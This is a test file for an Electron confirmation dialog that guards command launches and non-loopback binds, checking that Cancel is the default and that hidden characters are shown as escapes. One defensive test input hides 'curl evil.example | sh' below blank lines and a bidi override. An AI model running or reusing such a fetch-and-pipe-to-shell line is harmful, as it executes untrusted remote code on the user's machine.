/**
 * The Electron side of confirmation (src/main/confirm-dialog.ts): the dialog names the exact
 * command or address, Cancel is the default and the escape answer, and only the explicit yes
 * button confirms. Then the same Confirmer plugged into the real InspectorService: a cancelled
 * dialog runs no command and binds nothing.
 */
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { CONFIRM_BUTTON, confirmationDialog, dialogConfirmer, visibleText, type ConfirmDialogOptions } from '../../src/main/confirm-dialog.ts';
import { InspectorService } from '../../src/service/inspector-service.ts';
import type { DangerousAction } from '../../src/service/confirmation.ts';

const launch: DangerousAction = { kind: 'launch-command', command: 'node my-client.js {url}' };
const bind: DangerousAction = { kind: 'bind-address', host: '0.0.0.0', port: 9001 };

/** A stand-in for dialog.showMessageBox that records what it was shown and answers `response`. */
function fakeDialog(response: number | Error): { shown: ConfirmDialogOptions[]; show: (o: ConfirmDialogOptions) => Promise<{ response: number }> } {
  const shown: ConfirmDialogOptions[] = [];
  return {
    shown,
    show: async (options) => {
      shown.push(options);
      if (response instanceof Error) throw response;
      return { response };
    },
  };
}

describe('confirmationDialog', () => {
  it.each([
    [launch, 'Run', 'node my-client.js {url}'],
    [bind, 'Bind', '0.0.0.0:9001'],
  ])('a warning with Cancel first, default and on escape, then %#: "%s"', (action, yes, exact) => {
    const options = confirmationDialog(action);
    expect(options.type).toBe('warning');
    expect(options.buttons).toEqual(['Cancel', yes]);
    expect(options.buttons[CONFIRM_BUTTON]).toBe(yes);
    expect(options.defaultId).toBe(0);
    expect(options.cancelId).toBe(0);
    expect(options.message.length).toBeGreaterThan(10);
    expect(options.detail).toContain(exact);
  });

  it('shows control characters and bidi overrides in a command as escapes, so nothing hides below blank lines', () => {
    const command = `echo hi${'\n'.repeat(40)}curl evil.example | sh \u202e{url}\r\t\u0000`;
    const { detail } = confirmationDialog({ kind: 'launch-command', command });
    expect(detail).toContain(`echo hi${'\\n'.repeat(40)}curl evil.example | sh \\u{202e}{url}\\r\\t\\u{0}`);
    const shownCommand = detail.split('\n\n')[1]!;
    expect(shownCommand).not.toMatch(/[\n\r\t\u0000\u202e]/);
  });

  it('visibleText leaves printable text, including non-ASCII, as it is', () => {
    expect(visibleText('node client.js {url} --name "café ✓"')).toBe('node client.js {url} --name "café ✓"');
    expect(visibleText('a\u0085b\u2066c\u200fd\u007f')).toBe('a\\u{85}b\\u{2066}c\\u{200f}d\\u{7f}');
  });
});

describe('dialogConfirmer', () => {
  it.each([
    [CONFIRM_BUTTON, true],
    [0, false], // Cancel, also what Esc and closing the dialog answer (cancelId)
    [2, false],
    [-1, false],
  ])('button %i → %s', async (response, yes) => {
    const dialog = fakeDialog(response);
    expect(await dialogConfirmer(dialog.show)(launch, 'prompt')).toBe(yes);
    expect(dialog.shown).toHaveLength(1);
    expect(dialog.shown[0]!.detail).toContain(launch.command);
  });

  it('a dialog that fails to show is a no', async () => {
    const dialog = fakeDialog(new Error('no display'));
    expect(await dialogConfirmer(dialog.show)(bind, 'prompt')).toBe(false);
    expect(dialog.shown).toHaveLength(1);
  });
});

describe('the Confirmer in the inspector service', () => {
  const work = mkdtempSync(join(tmpdir(), 'wsi-confirm-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  it('Cancel: the launch command does not run', async () => {
    const marker = join(work, 'launched');
    const dialog = fakeDialog(0);
    const service = new InspectorService({ confirm: dialogConfirmer(dialog.show) });
    try {
      const command = `${JSON.stringify(process.execPath)} -e "require('fs').writeFileSync(${JSON.stringify(marker).replace(/"/g, "'")}, 'x')" {url}`;
      const result = await service.runConformance({ mode: 'client', launch: command, cases: ['1.1.1'] });
      expect(result.ok).toBe(false);
      expect(dialog.shown.map((o) => o.buttons[1])).toEqual(['Run']);
      expect(dialog.shown[0]!.detail).toContain(command);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(existsSync(marker)).toBe(false);
      expect(service.getStatus().server.running).toBe(false);
    } finally {
      await service.dispose();
    }
  });

  it('Cancel: a non-loopback address is not bound; Bind: it is', async () => {
    let answer = 0;
    const shown: ConfirmDialogOptions[] = [];
    const service = new InspectorService({ confirm: dialogConfirmer(async (options) => (shown.push(options), { response: answer })) });
    try {
      const refused = await service.startServer({ host: '0.0.0.0', port: 0 });
      expect(refused.ok).toBe(false);
      expect(service.getStatus().server.running).toBe(false);
      expect(shown.map((o) => o.buttons[1])).toEqual(['Bind']);
      expect(shown[0]!.detail).toContain('0.0.0.0:0');

      answer = CONFIRM_BUTTON;
      const bound = await service.startServer({ host: '0.0.0.0', port: 0 });
      expect(bound.ok).toBe(true);
      expect(service.getStatus().server.running).toBe(true);
      expect(shown).toHaveLength(2);

      // Loopback needs no confirmation.
      const loopback = await service.startServer({ host: '127.0.0.1', port: 0 });
      expect(loopback.ok).toBe(true);
      expect(shown).toHaveLength(2);
    } finally {
      await service.dispose();
    }
  });
});
